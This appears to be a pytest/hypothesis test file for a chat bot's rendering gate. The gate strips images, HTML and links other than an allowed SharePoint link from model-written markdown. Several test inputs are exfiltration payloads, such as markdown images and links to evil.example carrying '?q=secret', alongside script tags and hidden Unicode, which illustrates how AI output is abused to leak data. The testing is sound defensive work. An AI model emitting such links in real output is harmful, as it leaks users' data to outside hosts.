"""What a model writes never shows an image, HTML, or a link to anything but what was retrieved."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.teams.gate import plain, preview, render

LINK = "https://contoso.sharepoint.com/a_b(1).docx?web=1"
ALLOWED = frozenset({LINK})
READER = MarkdownIt("commonmark", {"html": True})

FRAGMENTS = [
    "[a](http://evil.example/x)",
    "![x](http://evil.example/p.png)",
    "[x][1]",
    "[1]: http://evil.example/",
    "<http://evil.example/>",
    "<img src=x>",
    "<b>",
    "&lt;",
    "&#32;",
    "http://evil.example/?a",
    "www.evil.example",
    "evil.example/x",
    "**",
    "*",
    "_",
    "`",
    "```",
    "\n",
    "\n\n",
    "- ",
    "1. ",
    "> ",
    "# ",
    "[1]",
    "(",
    ")",
    "!",
    "a",
    "b c",
    "|",
    "|-|-|\n",
    "    ",
    "\t",
    "\\",
    LINK,
    f"[ok]({LINK})",
    "---",
    "===",
]
markdown = st.lists(st.sampled_from(FRAGMENTS), max_size=12).map("".join)


def links(shown: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', READER.render(shown))


@given(markdown | st.text(max_size=40))
def test_rendering_is_safe_and_rendering_again_changes_nothing(text: str) -> None:
    shown = render(text, ALLOWED)
    assert render(shown, ALLOWED) == shown
    html = READER.render(shown)
    assert "<img" not in html
    assert "<b>" not in html
    assert all(link.startswith("https://contoso.sharepoint.com/a_b") for link in links(shown))


@given(markdown, markdown)
def test_a_preview_only_grows_and_holds_no_link(one: str, two: str) -> None:
    shown = preview(one + two)
    assert shown.startswith(preview(one))
    html = READER.render(shown)
    assert "<img" not in html
    assert "<b>" not in html
    assert not links(shown)


@given(st.text(max_size=60))
def test_plain_words_are_one_paragraph_without_links(text: str) -> None:
    shown = plain(text)
    assert not links(shown)
    assert "\n" not in shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("The budget is 4.2 million [1][2].", "The budget is 4.2 million [1][2]."),
        ("See [the plan](https://evil.example/?q=secret).", "See the plan."),
        ("![chart](https://evil.example/?q=secret) done", "chart done"),
        ("Look at https://evil.example/?q=secret, now", "Look at evil[.]example/…, now"),
        ("<at>Ana</at> & <script>x</script>", "&lt;at>Ana&lt;/at> & &lt;script>x&lt;/script>"),
        (f"[plan]({LINK.replace('(', '%28').replace(')', '%29')})", "[plan](https://contoso.sharepoint.com/a_b%281%29.docx?web=1)"),
        ("# Result\n\ntext", "**Result**\n\ntext"),
        ("- a\n- b [1]", "- a\n- b [1]"),
        ("1. a\n2. b", "1. a\n2. b"),
        ("|Name|Sum|\n|-|-|\n|A|1 [2]|", "**Name · Sum**\n\n- **A**: 1 [2]"),
        ("`code` and\n\n```py\nx = 1\n```", "`code` and\n\n```py\nx = 1\n```"),
        ("[1]: https://evil.example/", "\\[1\\]: evil[.]example"),
        ("[1](https://evil.example/)", "1"),
        ("[1] (see there)", "[1] (see there)"),
        ("Fee: 5 * 3 * 2", "Fee: 5 * 3 * 2"),
        ("a\u202eb\U000e0041c", "abc"),
    ],
)  # fmt: skip
def test_examples(written: str, shown: str) -> None:
    assert render(written, ALLOWED) == shown
